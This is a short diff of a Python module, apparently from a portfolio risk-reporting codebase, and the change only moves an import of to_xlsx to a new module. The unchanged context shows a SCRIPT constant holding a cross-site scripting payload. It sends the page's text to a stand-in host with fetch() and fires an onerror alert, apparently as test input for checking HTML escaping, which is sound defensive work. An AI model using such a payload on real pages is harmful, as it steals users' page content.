@@ -18,7 +18,8 @@ from node.bootstrap import CONSORTIUM_FILE
 from node.demo import REPORT_FILE
 from node.own.customers import Customer
 from node.risk.portfolio.position import position_of
-from node.risk.portfolio.tables import rows_of, to_csv, to_xlsx
+from node.risk.portfolio.sheet import to_xlsx
+from node.risk.portfolio.tables import rows_of, to_csv
 from node.risk.report.files import answer_file_of, as_html
 
 SCRIPT = '"><script>fetch("https://x.example/"+document.body.innerText)</script><img src=x onerror=alert(1)>'
